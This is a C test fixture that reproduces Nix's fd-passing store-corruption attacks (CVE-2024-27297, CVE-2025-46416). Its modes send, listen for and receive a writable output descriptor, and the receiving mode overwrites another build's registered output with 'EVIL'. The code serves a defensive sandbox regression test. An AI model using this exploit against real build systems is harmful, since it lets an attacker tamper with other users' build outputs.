/* A builder that tries to keep a writable file descriptor of its output alive after the build, by
 * handing it over a unix socket: the attack of Nix's CVE-2024-27297 (GHSA-2ffj-w4mj-pg37) and, with two
 * builders, CVE-2025-46416. Compiled statically by tests/test_build_attacks.py; it writes $out first
 * (so the build can succeed whatever happens) and never fails because the socket is unreachable.
 *
 *   fdpass send   ABSTRACT CONTENT     write $out, connect to @ABSTRACT (retrying ~3 s), send its fd
 *   fdpass recv   ABSTRACT CONTENT     listen on @ABSTRACT (~5 s), take an fd, wait until the file it
 *                                      names is read-only (registered), then overwrite it; write $out
 *   fdpass listen SOCKPATH CONTENT     write $out, listen on a path socket (~15 s), send its fd
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static void nap(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

static int write_out(const char *content) {
    const char *out = getenv("out");
    int fd = open(out, O_RDWR | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, content, strlen(content)) != (ssize_t)strlen(content)) {
        perror("write $out");
        exit(1);
    }
    return fd;
}

static socklen_t address(struct sockaddr_un *a, const char *name, int abstract) {
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    size_t n = strlen(name);
    if (abstract) {
        memcpy(a->sun_path + 1, name, n);
        return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
    }
    memcpy(a->sun_path, name, n);
    return (socklen_t)sizeof *a;
}

static void send_fd(int sock, int fd) {
    char byte = 'F';
    struct iovec iov = {&byte, 1};
    char buf[CMSG_SPACE(sizeof(int))];
    memset(buf, 0, sizeof buf);
    struct msghdr msg = {0};
    msg.msg_iov = &iov;
    msg.msg_iovlen = 1;
    msg.msg_control = buf;
    msg.msg_controllen = sizeof buf;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof(int));
    if (sendmsg(sock, &msg, 0) == 1)
        printf("fdpass: sent the fd of $out\n");
}

static int recv_fd(int sock) {
    char byte;
    struct iovec iov = {&byte, 1};
    char buf[CMSG_SPACE(sizeof(int))];
    struct msghdr msg = {0};
    msg.msg_iov = &iov;
    msg.msg_iovlen = 1;
    msg.msg_control = buf;
    msg.msg_controllen = sizeof buf;
    if (recvmsg(sock, &msg, 0) != 1)
        return -1;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    if (c == NULL || c->cmsg_type != SCM_RIGHTS)
        return -1;
    int fd;
    memcpy(&fd, CMSG_DATA(c), sizeof(int));
    return fd;
}

static int listen_on(const char *name, int abstract, int ms) {
    struct sockaddr_un a;
    socklen_t len = address(&a, name, abstract);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(s, (struct sockaddr *)&a, len) != 0 || listen(s, 1) != 0) {
        perror("fdpass: listen");
        return -1;
    }
    struct pollfd p = {s, POLLIN, 0};
    if (poll(&p, 1, ms) != 1) {
        printf("fdpass: nobody connected\n");
        return -1;
    }
    return accept(s, NULL, NULL);
}

int main(int argc, char **argv) {
    if (argc != 4)
        return 2;
    const char *mode = argv[1], *name = argv[2], *content = argv[3];
    if (strcmp(mode, "send") == 0) {
        int fd = write_out(content);
        struct sockaddr_un a;
        socklen_t len = address(&a, name, 1);
        for (int i = 0; i < 30; i++) {
            int s = socket(AF_UNIX, SOCK_STREAM, 0);
            if (connect(s, (struct sockaddr *)&a, len) == 0) {
                send_fd(s, fd);
                return 0;
            }
            close(s);
            nap(100);
        }
        printf("fdpass: cannot reach @%s: %s\n", name, strerror(errno));
        return 0;
    }
    if (strcmp(mode, "listen") == 0) {
        int fd = write_out(content);
        int s = listen_on(name, 0, 15000);
        if (s >= 0)
            send_fd(s, fd);
        return 0;
    }
    if (strcmp(mode, "recv") == 0) {
        int s = listen_on(name, 1, 5000);
        int fd = s < 0 ? -1 : recv_fd(s);
        if (fd >= 0) {
            struct stat st;
            for (int i = 0; i < 100 && fstat(fd, &st) == 0 && (st.st_mode & 0222); i++)
                nap(100);
            nap(1000); /* past the hash and the registration */
            if (pwrite(fd, "EVIL", 4, 0) == 4)
                printf("fdpass: overwrote the other build's output\n");
        }
        close(write_out(content));
        return 0;
    }
    return 2;
}
